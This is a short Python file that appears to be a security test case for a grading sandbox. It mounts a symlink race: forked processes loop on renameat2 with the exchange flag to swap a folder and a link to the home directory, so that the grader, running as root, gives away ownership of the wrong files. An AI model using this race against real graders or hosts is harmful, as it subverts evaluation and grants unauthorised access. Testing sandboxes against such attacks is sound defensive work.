"""Swaps a folder for a link while the grader, as root, gives its files to the submission.

lesson: start_here
expects: 0
"""

# cell: added
import threading

GUESTS = []
os.mkdir("deep")
for number in range(300):
    open(f"deep/a{number}", "w").close()
open("deep/notes.txt", "w").close()
attempt("link", os.symlink, FACTS["home"], "deep-link")


def swap():
    """Exchange the two names as fast as the kernel can."""
    while True:
        LIBC.syscall(316, -100, b"deep", -100, b"deep-link", 2)


# cell: sign_in
def sign_in(path, name):
    if not GUESTS:
        for _ in range(2):
            if os.fork() == 0:
                swap()
    GUESTS.append(name)
    with open(path, "w") as file:
        file.write(" ".join(GUESTS))
    return GUESTS
